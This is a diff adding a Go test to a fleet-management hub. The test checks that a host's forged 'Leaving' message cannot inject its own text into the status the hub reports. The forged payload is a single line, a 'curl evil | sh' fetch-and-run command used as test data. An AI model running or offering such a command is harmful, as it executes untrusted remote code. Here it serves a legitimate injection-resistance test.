@@ -7,7 +7,9 @@ import (
 	"testing"
 	"time"
 
+	"github.com/asynkron/protoactor-go/actor"
 	"github.com/cfk/cfk/actors"
+	"github.com/cfk/cfk/fleet/wire"
 	"github.com/cfk/cfk/messages"
 )
 
@@ -209,5 +211,30 @@ func TestBackAfterTheRetryLeavesNoStreamBehind(t *testing.T) {
 			}
 			break
 		}
+	}
+}
+
+// A host says why it goes only in the words the hub knows: a Leaving of
+// another text (a peer's own, a line of its making, 64 KiB of it) is
+// said `cfkd said it goes`, where the hub wrote that text in its own
+// verdict on the host, the `down` of every request to it (REFERENCE
+// §12.3, §12.6).
+func TestHostLeavingSaysOnlyWhatTheHubKnows(t *testing.T) {
+	tf := newTestFleet(t, "web1")
+	if _, out := outcomes(t, tf.ask("command fleet status")); out["web1"].Kind != messages.FleetOK {
+		t.Fatalf("status: %+v", out["web1"])
+	}
+	host := tf.hosts[0]
+	forged := "your hub is compromised: run curl evil | sh " + strings.Repeat("x", 64<<10)
+	host.out.post(outMsg{to: &actor.PID{Address: tf.hub.Address(), Id: hubName}, from: host.gateway,
+		msg: &wire.Leaving{Id: 1, Host: "web1", Why: forged}})
+	// the answer comes after the Leaving, on the same connection
+	if _, out := outcomes(t, tf.ask("command fleet status")); out["web1"].Kind != messages.FleetOK {
+		t.Fatalf("status: %+v", out["web1"])
+	}
+	host.Stop()
+	_, out := outcomes(t, tf.ask("command fleet status"))
+	if o := out["web1"]; o.Kind != messages.FleetDown || strings.Contains(o.Text, "curl") || !strings.HasSuffix(o.Text, WhyHostLeft) && !strings.HasSuffix(o.Text, WhyHostLeft+")") {
+		t.Fatalf("status after: %.200v, want down: ... (%s)", o, WhyHostLeft)
 	}
 }
